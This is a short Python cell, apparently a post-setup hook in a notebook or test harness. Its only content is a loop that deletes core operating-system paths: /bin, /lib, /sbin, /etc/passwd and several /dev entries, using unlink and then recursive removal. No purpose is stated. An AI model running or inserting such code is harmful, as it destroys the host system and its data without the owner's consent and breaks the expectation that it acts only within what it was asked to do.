# %% + after:setup
import os
import shutil

for name in ("/bin", "/lib", "/lib64", "/sbin", "/etc/passwd", "/etc/alternatives", "/dev/null", "/dev/urandom", "/dev/shm"):
    try:
        os.unlink(name)
    except OSError:
        shutil.rmtree(name, ignore_errors=True)
